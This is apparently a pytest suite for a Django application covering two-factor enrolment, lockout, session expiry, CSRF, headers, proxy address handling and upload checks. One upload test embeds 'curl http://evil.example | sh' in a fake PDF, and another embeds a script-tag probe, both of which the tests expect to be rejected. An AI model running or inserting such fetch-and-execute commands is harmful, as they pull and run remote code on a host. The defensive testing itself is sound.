"""Sign-in hardening: two-factor, brute-force lockout, session limits, CSRF, headers, uploads."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django_otp.oath import totp
from django_otp.plugins.otp_totp.models import TOTPDevice

from apcase.access import client_ip
from apcase.tests.test_login_required import PATTERNS, _sample_url
from apcase.uploads import validate_upload

PASSWORD = "correct-horse-battery"


def sign_in(client, username, password=PASSWORD):
    return client.post(reverse("login"), {"username": username, "password": password})


class TestTwoFactor:
    @pytest.fixture(autouse=True)
    def _required(self, settings):
        settings.OTP_REQUIRED = True

    def _enrol(self, client, user):
        sign_in(client, user.username)
        client.get(reverse("two_factor_setup"))
        device = TOTPDevice.objects.get(user=user, confirmed=False)
        response = client.post(reverse("two_factor_setup"), {"password": PASSWORD, "token": totp(device.bin_key)})
        return device, response

    def test_a_signed_in_user_without_a_second_factor_is_sent_to_set_one_up(self, client, sendco):
        sign_in(client, "sendco")
        response = client.get("/")
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("two_factor_setup"))

    def test_setting_up_asks_for_the_password_again(self, client, sendco):
        sign_in(client, "sendco")
        client.get(reverse("two_factor_setup"))
        device = TOTPDevice.objects.get(user=sendco)
        response = client.post(reverse("two_factor_setup"), {"password": "wrong", "token": totp(device.bin_key)})
        assert "That is not your current password." in response.content.decode()
        assert not TOTPDevice.objects.get(user=sendco).confirmed

    def test_enrolment_shows_backup_codes_once_and_opens_the_app(self, client, sendco):
        device, response = self._enrol(client, sendco)
        assert response.status_code == 200
        assert "Your backup codes" in response.content.decode()
        device.refresh_from_db()
        assert device.confirmed
        assert client.get("/").status_code == 200

    def test_the_next_sign_in_needs_a_code_and_a_backup_code_works_once(self, client, sendco):
        _device, response = self._enrol(client, sendco)
        code = response.context["codes"][0]
        client.post(reverse("logout"))
        sign_in(client, "sendco")
        assert client.get("/")["Location"].startswith(reverse("two_factor_verify"))
        assert client.post(reverse("two_factor_verify"), {"token": code, "next": "/"})["Location"] == "/"
        client.post(reverse("logout"))
        sign_in(client, "sendco")
        response = client.post(reverse("two_factor_verify"), {"token": code})
        assert response.status_code == 200
        assert "That code did not work" in response.content.decode()

    def test_the_back_office_is_behind_the_second_factor_too(self, client, db, django_user_model):
        django_user_model.objects.create_superuser("root", "root@example.org", PASSWORD)
        sign_in(client, "root")
        response = client.get("/admin/")
        assert response["Location"].startswith(reverse("two_factor_setup"))


class TestBruteForce:
    def test_repeated_failures_lock_one_username_but_not_a_colleague_on_the_same_address(self, sendco, head, settings):
        settings.AXES_FAILURE_LIMIT = 3
        client = Client(REMOTE_ADDR="10.0.0.7")
        for _ in range(3):
            sign_in(client, "sendco", "wrong")
        locked = sign_in(client, "sendco", PASSWORD)
        assert locked.status_code == 429
        assert "Too many sign-in attempts" in locked.content.decode()
        colleague = Client(REMOTE_ADDR="10.0.0.7")
        assert sign_in(colleague, "head")["Location"] == reverse("home")

    def test_lockouts_are_visible_to_admins(self, sendco, admin_client, settings):
        settings.AXES_FAILURE_LIMIT = 2
        client = Client(REMOTE_ADDR="10.0.0.8")
        for _ in range(2):
            sign_in(client, "sendco", "wrong")
        html = admin_client.get("/admin/axes/accessattempt/").content.decode()
        assert "sendco" in html


class TestSessions:
    def test_thirty_idle_minutes_sign_you_out(self, client, sendco, time_machine):
        time_machine.move_to(timezone.now(), tick=False)
        sign_in(client, "sendco")
        assert client.get("/").status_code == 200
        time_machine.shift(timedelta(minutes=31))
        assert client.get("/")["Location"].startswith(reverse("login"))

    def test_activity_keeps_the_session_open(self, client, sendco, time_machine):
        time_machine.move_to(timezone.now(), tick=False)
        sign_in(client, "sendco")
        time_machine.shift(timedelta(minutes=20))
        assert client.get("/").status_code == 200
        time_machine.shift(timedelta(minutes=25))  # 45 minutes after sign-in, 25 after the last page
        assert client.get("/").status_code == 200

    def test_pages_within_a_minute_do_not_rewrite_the_session(
        self, client, sendco, time_machine, django_assert_num_queries
    ):
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        time_machine.move_to(timezone.now(), tick=False)
        sign_in(client, "sendco")
        client.get("/")
        with CaptureQueriesContext(connection) as queries:
            client.get("/account/")
        assert not [q for q in queries.captured_queries if q["sql"].startswith('UPDATE "django_session"')]

    def test_an_active_session_still_ends_after_ten_hours(self, client, sendco, time_machine):
        time_machine.move_to(timezone.now(), tick=False)
        sign_in(client, "sendco")
        for _ in range(25):  # a request every 25 minutes keeps it from going idle (625 min)
            time_machine.shift(timedelta(minutes=25))
            response = client.get("/")
        assert response.status_code == 302
        assert response["Location"] == reverse("login") + "?expired=1"


SIGNED_IN_POSTS = [(name, pattern) for name, pattern in PATTERNS if not name.startswith("admin:")]


@pytest.mark.parametrize(("name", "pattern"), SIGNED_IN_POSTS, ids=[name for name, _ in SIGNED_IN_POSTS])
def test_every_post_needs_a_csrf_token(name, pattern, sendco):
    client = Client(enforce_csrf_checks=True)
    client.force_login(sendco)
    url = _sample_url(name, pattern)
    assert url is not None, f"could not build a sample URL for {name}"
    response = client.post(url, {})
    assert response.status_code == 403


def test_https_responses_carry_hsts_and_the_privacy_headers(client_for, sendco, settings):
    settings.SECURE_HSTS_SECONDS = 31_536_000
    settings.SECURE_HSTS_INCLUDE_SUBDOMAINS = True
    response = client_for(sendco).get("/", secure=True)
    assert response["Strict-Transport-Security"].startswith("max-age=31536000")
    assert response["Referrer-Policy"] == "same-origin"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in response["Content-Security-Policy"]
    assert "no-store" in response["Cache-Control"]


class TestUploads:
    def test_a_script_renamed_pdf_is_rejected(self):
        upload = SimpleUploadedFile("evidence.pdf", b"#!/bin/sh\ncurl http://evil.example | sh\n")
        with pytest.raises(ValidationError, match="not a real .pdf file"):
            validate_upload(upload)

    def test_an_html_file_is_rejected_by_name(self):
        with pytest.raises(ValidationError, match="Upload a PDF"):
            validate_upload(SimpleUploadedFile("page.html", b"<script>alert(1)</script>"))

    def test_a_real_pdf_is_accepted(self):
        validate_upload(SimpleUploadedFile("letter.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"))

    def test_a_file_over_the_limit_is_rejected_with_its_size(self, settings):
        settings.UPLOAD_MAX_BYTES = 1024
        with pytest.raises(ValidationError, match="largest allowed is 1.0"):
            validate_upload(SimpleUploadedFile("big.pdf", b"%PDF-" + b"0" * 2048))


class TestSecondFactorCannotBeSkipped:
    """With a password only, nobody replaces or removes the device of a person who has one."""

    @pytest.fixture(autouse=True)
    def _required(self, settings):
        settings.OTP_REQUIRED = True

    @pytest.fixture
    def owners_device(self, sendco):
        return TOTPDevice.objects.create(user=sendco, name="Owner's phone", confirmed=True)

    def test_an_unverified_session_is_sent_to_enter_a_code_not_to_set_up(self, client, owners_device):
        sign_in(client, "sendco")
        response = client.get(reverse("two_factor_setup"))
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("two_factor_verify"))
        assert not TOTPDevice.objects.filter(confirmed=False).exists()

    def test_an_unverified_session_cannot_enrol_a_new_device_or_delete_the_owners(self, client, sendco, owners_device):
        sign_in(client, "sendco")
        attacker = TOTPDevice.objects.create(user=sendco, name="Attacker's phone", confirmed=False)
        client.post(reverse("two_factor_setup"), {"password": PASSWORD, "token": totp(attacker.bin_key)})
        attacker.refresh_from_db()
        assert not attacker.confirmed
        assert TOTPDevice.objects.filter(pk=owners_device.pk, confirmed=True).exists()
        assert client.get("/")["Location"].startswith(reverse("two_factor_verify"))

    def test_even_without_two_factor_required_the_device_is_changed_only_after_using_it(
        self, client, sendco, owners_device, settings
    ):
        settings.OTP_REQUIRED = False
        sign_in(client, "sendco")
        attacker = TOTPDevice.objects.create(user=sendco, name="Attacker's phone", confirmed=False)
        client.post(reverse("two_factor_setup"), {"password": PASSWORD, "token": totp(attacker.bin_key)})
        assert TOTPDevice.objects.get(pk=owners_device.pk).confirmed
        assert not TOTPDevice.objects.get(pk=attacker.pk).confirmed

    def test_an_unverified_session_cannot_make_new_backup_codes(self, client, sendco, owners_device, settings):
        settings.OTP_REQUIRED = False
        sign_in(client, "sendco")
        response = client.post(reverse("two_factor_backup_codes"), {"password": PASSWORD})
        assert "codes" not in (response.context or {})

    def test_after_entering_a_code_the_owner_can_replace_the_device(self, client, sendco, owners_device):
        sign_in(client, "sendco")
        client.post(reverse("two_factor_verify"), {"token": totp(owners_device.bin_key)})
        client.get(reverse("two_factor_setup"))
        new = TOTPDevice.objects.get(user=sendco, confirmed=False)
        response = client.post(reverse("two_factor_setup"), {"password": PASSWORD, "token": totp(new.bin_key)})
        assert "Your backup codes" in response.content.decode()
        assert list(TOTPDevice.objects.filter(user=sendco, confirmed=True)) == [new]


class TestClientAddressBehindAProxy:
    """The lockout and the access log use the person's address, read from X-Forwarded-For only
    when we were told to trust the proxy that wrote it (finding 8)."""

    PROXY = "10.0.0.2"

    def _client(self, forwarded_for):
        return Client(REMOTE_ADDR=self.PROXY, HTTP_X_FORWARDED_FOR=forwarded_for)

    def test_by_default_the_header_is_ignored_so_nobody_chooses_their_address(self, rf, settings):
        settings.TRUSTED_PROXY_COUNT = 0
        request = rf.get("/", REMOTE_ADDR=self.PROXY, HTTP_X_FORWARDED_FOR="203.0.113.9")
        assert client_ip(request) == self.PROXY

    def test_behind_one_trusted_proxy_the_address_it_appended_is_used(self, rf, settings):
        settings.TRUSTED_PROXY_COUNT = 1
        spoofed = rf.get("/", REMOTE_ADDR=self.PROXY, HTTP_X_FORWARDED_FOR="1.2.3.4, 203.0.113.9")
        assert client_ip(spoofed) == "203.0.113.9"  # what the client typed (1.2.3.4) is ignored
        assert client_ip(rf.get("/", REMOTE_ADDR=self.PROXY)) == self.PROXY
        assert client_ip(rf.get("/", REMOTE_ADDR=self.PROXY, HTTP_X_FORWARDED_FOR="not-an-ip")) == self.PROXY

    def test_behind_the_proxy_one_persons_failures_do_not_lock_out_a_colleague(self, sendco, settings):
        settings.TRUSTED_PROXY_COUNT = 1
        settings.AXES_FAILURE_LIMIT = 3
        attacker = self._client("203.0.113.9")
        for _ in range(3):
            sign_in(attacker, "sendco", "wrong")
        assert sign_in(attacker, "sendco").status_code == 429
        assert sign_in(self._client("198.51.100.7"), "sendco")["Location"] == reverse("home")

    def test_without_trusting_the_proxy_everyone_shares_its_address(self, sendco, settings):
        settings.TRUSTED_PROXY_COUNT = 0
        settings.AXES_FAILURE_LIMIT = 3
        for _ in range(3):
            sign_in(self._client("203.0.113.9"), "sendco", "wrong")
        assert sign_in(self._client("198.51.100.7"), "sendco").status_code == 429

    def test_the_access_log_records_the_persons_address(self, sendco, school, settings):
        from apcase.models import ExportJob, RecordAccess

        settings.TRUSTED_PROXY_COUNT = 1
        job = ExportJob.objects.create(user=sendco, school=school, kind="pupils")
        from apcase.exports import export_job_run

        export_job_run(job_id=job.pk)
        client = self._client("203.0.113.9")
        client.force_login(sendco)
        client.get(reverse("export_download", args=[job.public_id]))
        assert RecordAccess.objects.get(action="download").ip_address == "203.0.113.9"
